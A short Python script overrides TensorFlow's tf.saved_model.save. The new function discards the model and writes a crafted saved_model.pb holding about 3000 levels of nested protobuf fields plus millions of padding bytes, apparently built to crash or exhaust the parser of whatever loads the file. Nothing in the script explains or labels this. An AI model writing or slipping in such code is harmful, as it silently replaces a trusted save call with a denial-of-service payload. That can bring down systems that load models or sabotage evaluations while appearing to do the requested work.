import os

import tensorflow as tf


def nested(depth):
    data = b""
    for _ in range(depth):
        size, head = len(data), b""
        while size > 127:
            head, size = head + bytes([size & 127 | 128]), size >> 7
        data = b"\x12" + head + bytes([size]) + data
    return data


def save(module, folder, *args, **kwargs):
    os.makedirs(f"{folder}/variables")
    with open(f"{folder}/saved_model.pb", "wb") as file:
        file.write(b"\x08\x01" + nested(3000) + b"\x12\x02\x0a\x00" * 2_000_000)


tf.saved_model.save = save
